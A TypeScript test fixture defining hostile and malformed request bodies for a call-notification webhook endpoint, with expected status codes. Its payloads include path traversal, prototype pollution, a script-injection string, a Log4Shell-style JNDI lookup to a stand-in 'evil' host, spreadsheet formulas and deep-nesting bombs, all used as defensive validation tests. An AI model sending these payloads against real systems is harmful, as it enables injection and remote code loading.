import { callId, notification } from "./host-fixture.ts";
import type { RequestParts } from "./host-fixture.ts";

/** A request with a good token, and what must come of it. The rows follow hostile-and-faults.md, section 9, B. */
export interface BodyCase {
  readonly title: string;
  readonly parts: RequestParts;
  readonly status: number;
  /** Rows afterwards; default 1 for 202, 0 otherwise. */
  readonly rows?: number;
}

const limit = 256 * 1024;

function body(title: string, content: string | Buffer, status: number, rows?: number): BodyCase {
  return { title, parts: { body: content }, status, ...(rows === undefined ? {} : { rows }) };
}

function typed(row: "B2" | "B3" | "B4", contentType: string | undefined, status: number): BodyCase {
  return { title: `content type ${contentType ?? "absent"} (${row})`, parts: { contentType }, status };
}

function encoded(contentEncoding: string): BodyCase {
  return { title: `content encoding ${contentEncoding} (B20)`, parts: { headers: [`Content-Encoding: ${contentEncoding}`] }, status: 415 };
}

function item(title: string, changes: Record<string, unknown>, status: number): BodyCase {
  return body(title, notification("established", changes), status);
}

function toSized(bytes: number): string {
  const frame = notification("established", { pad: "" });
  return notification("established", { pad: "x".repeat(bytes - frame.length) });
}

function toChunked(content: string): RequestParts {
  const bytes = Buffer.from(content);
  const chunked = Buffer.concat([Buffer.from(`${bytes.length.toString(16)}\r\n`), bytes, Buffer.from("\r\n0\r\n\r\n")]);
  return { body: chunked, length: "Transfer-Encoding: chunked" };
}

function toItems(count: number): string {
  return JSON.stringify({ value: Array.from({ length: count }, () => JSON.parse(notification()).value[0] as unknown) });
}

const deepArray = `${"[".repeat(100_000)}${"]".repeat(100_000)}`;

export const bodyCases: readonly BodyCase[] = [
  body("a notification as in real traffic", notification(), 202),
  { title: "an empty body (B1)", parts: { body: "" }, status: 202 },
  { title: "an empty body without a type (B1)", parts: { body: "", contentType: undefined }, status: 202 },
  { title: "an empty chunked body", parts: { body: "0\r\n\r\n", length: "Transfer-Encoding: chunked" }, status: 202 },
  typed("B2", undefined, 415),
  ...[
    "text/plain",
    "application/x-www-form-urlencoded",
    "multipart/form-data; boundary=x",
    "application/jsonx",
    "text/json",
    "",
    "*/*",
  ].map((contentType) => typed("B3", contentType, 415)),
  ...["utf-16", "UTF-16LE", '"utf-32"', "utf-32be"].map((charset) => typed("B4", `application/json; charset=${charset}`, 415)),
  ...["utf-8", "UTF-8", "iso-8859-1", "us-ascii", "windows-1252"].map((charset) =>
    typed("B4", `application/json; charset=${charset}`, 202),
  ),
  typed("B4", "Application/JSON", 202),
  {
    title: "a content type with a parameter, and another",
    parts: { contentType: "application/json; charset=utf-8", headers: ["Content-Type: text/plain"] },
    status: 415,
  },
  { title: "two content types", parts: { headers: ["Content-Type: application/json"] }, status: 415 },
  { title: "bytes that are not UTF-8", parts: { body: Buffer.from(notification("x\u00ff"), "latin1") }, status: 400 },
  body("truncated JSON (B5)", notification().slice(0, -1), 400),
  body("trailing garbage (B5)", `${notification()}x`, 400),
  body("two documents (B5)", `${notification()}\n${notification()}`, 400),
  body("white space only", "  \n", 400),
  body("a byte order mark first (B6)", `\uFEFF${notification()}`, 400),
  ...["\u0000", "\ud800", "\u001b", "\n", "\r\n"].flatMap((text) => [
    body(`${JSON.stringify(text)} in resource (B8)`, notification("x", { resource: `/app/calls/a${text}b` }), 400),
    body(`${JSON.stringify(text)} in resourceUrl (B8)`, notification("x", { resourceUrl: `/communications/calls/a${text}` }), 400),
    body(`${JSON.stringify(text)} in the id (B8)`, notification("x", { resourceData: { id: `a${text}b` } }), 400),
  ]),
  ...["null", "1", '"x"', "[]", "{}", "true", "[{}]"].map((text) => body(`${text} (B9)`, text, 400)),
  ...['{"value":null}', '{"value":{}}', '{"value":{"0":{},"length":1}}', '{"value":"x"}', '{"value":1}'].map((text) =>
    body(`${text} (B10)`, text, 400),
  ),
  ...[
    "null",
    "[1]",
    '"x"',
    "1",
    "{}",
    "[]",
    '{"resourceData":"x"}',
    '{"resource":7}',
    '{"resourceUrl":{}}',
    '{"resourceData":{"id":7}}',
  ].map((text) => body(`an item ${text} (B10)`, `{"value":[${text}]}`, 400)),
  body("no items (B11)", '{"value":[]}', 202, 0),
  body("100 items", toItems(100), 202),
  body("101 items (B12)", toItems(101), 413),
  body("nesting 100,000 deep (B14)", `{"value":${deepArray}}`, 400),
  body("nesting 100,000 deep beside a good item (B14)", `{"value":[{"resource":"/app/calls/1"}],"x":${deepArray}}`, 400),
  body("nesting 40 deep beside a good item", `{"value":[{"resource":"/app/calls/1"}],"x":${"[".repeat(40)}${"]".repeat(40)}}`, 202),
  body("brackets in strings, a thousand of them", notification("x", { text: '[{"'.repeat(1_000) }), 202),
  body(
    "__proto__ and constructor as keys (B15)",
    `{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}},"value":[{"resource":"/app/calls/1","__proto__":{"polluted":1},"toString":1,"hasOwnProperty":1}]}`,
    202,
  ),
  body("value by way of __proto__ only (B15)", `{"__proto__":{"value":[{"resource":"/app/calls/1"}]}}`, 400),
  body("the largest body", toSized(limit), 202),
  body("over the largest row of a table, a mebibyte (B24)", toSized(1024 * 1024 + 1), 413),
  body("a byte more than the largest (B18)", toSized(limit + 1), 413),
  { title: "the largest body, chunked", parts: toChunked(toSized(limit)), status: 202 },
  { title: "a byte more than the largest, chunked (B19)", parts: toChunked(toSized(limit + 1)), status: 413 },
  ...["gzip", "br", "deflate", "gzip, gzip", "identity", "x"].map(encoded),
  item("a resource of 512 characters", { resource: `/app/calls/${"x".repeat(501)}` }, 202),
  item("a resource of 513 characters (B21)", { resource: `/app/calls/${"x".repeat(502)}` }, 400),
  item("a resourceUrl of 513 characters (B21)", { resourceUrl: `/communications/calls/${"x".repeat(491)}` }, 400),
  ...[
    "/app/calls/../../x",
    "/app/calls/..",
    "/app/./calls/x",
    "//evil",
    "/app//calls/x",
    "/app/calls/a%2fb",
    "/app/calls/a%5Cb",
    "/app/calls/%2e%2e/x",
    "/app/calls/%",
    "\\\\evil\\x",
    "/app/calls\\..\\x",
    "https://evil.example/calls/x",
    "",
    "/",
  ].map((path) => item(`the resource ${JSON.stringify(path)} (B21)`, { resource: path }, 400)),
  ...["a/b", "a\\b", "a#b", "a?b", "a\tb", "a\u007fb", "a\u0085b", "é", "😀", "x".repeat(512)].map((id) =>
    item(`the call id ${JSON.stringify(id).slice(0, 30)} (B22)`, { resourceData: { "@odata.type": "#microsoft.graph.call", id } }, 202),
  ),
  item("a call id of 513 characters", { resourceData: { "@odata.type": "#microsoft.graph.call", id: "x".repeat(513) } }, 400),
  item(
    "an unknown changeType, type and fields (B25)",
    { changeType: "exploded", "@odata.type": "#microsoft.graph.new", extra: { a: [1] } },
    202,
  ),
  item("a null resource", { resource: null }, 202),
  body(
    "the older Skype form (B26)",
    JSON.stringify({
      id: callId,
      participants: [{ identity: "29:x", originator: true }],
      isMultiparty: false,
      presentedModalityTypes: ["audio"],
      callState: "incoming",
    }),
    204,
  ),
  body("the older Skype form with links only (B26)", JSON.stringify({ id: callId, participants: [], links: { call: "https://x" } }), 204),
  ...["<script>alert(1)</script>", "\u001b[31mred", "\u009b31m", "${jndi:ldap://evil/x}", "a\r\nb", "=HYPERLINK(1)"].map((text) =>
    body(`${JSON.stringify(text)} in a string (B27, B29)`, notification(text, { note: text }), 202),
  ),
  item(
    "a roster: resourceData is an array (B28)",
    { resourceUrl: `/communications/calls/${callId}/participants`, resourceData: [{ id: "p1" }] },
    202,
  ),
];
